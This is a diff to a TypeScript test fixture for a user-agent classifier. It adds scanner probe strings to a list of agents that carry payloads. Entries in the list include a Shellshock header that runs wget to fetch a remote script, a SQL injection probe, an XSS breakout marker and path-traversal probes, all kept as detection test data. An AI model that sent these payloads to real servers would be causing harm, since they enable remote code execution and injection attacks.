@@ -418,6 +418,19 @@ export const AUTOMATED_KINDS: Record<string, AutomatedAgent[]> = {
   ],
   "scanners that put payloads in the agent": [
     { ua: '() { :; }; /bin/bash -c "wget http://198.51.100.7/x.sh"', token: "unknown", category: "other" },
+    // a quote closing a value before a semicolon, path climbing right after the version (Yauaa's hacker tests)
+    {
+      ua:
+        'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/85.0.4158.0 Safari/537.36 ";tenable_wasscan_xss_in_element_event=87bf67f4-ff97-4c1e-bad7-67d965e1814c//',
+      token: "unknown",
+      category: "other",
+    },
+    {
+      ua:
+        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/85.0.4183.83 Safari/537.36../.",
+      token: "unknown",
+      category: "other",
+    },
     { ua: "Mozilla/5.0' or 1=1--", token: "unknown", category: "other" },
     // SQL, script, ESI and path-climbing probes after a whole browser agent (Yauaa's hacker tests print them)
     {
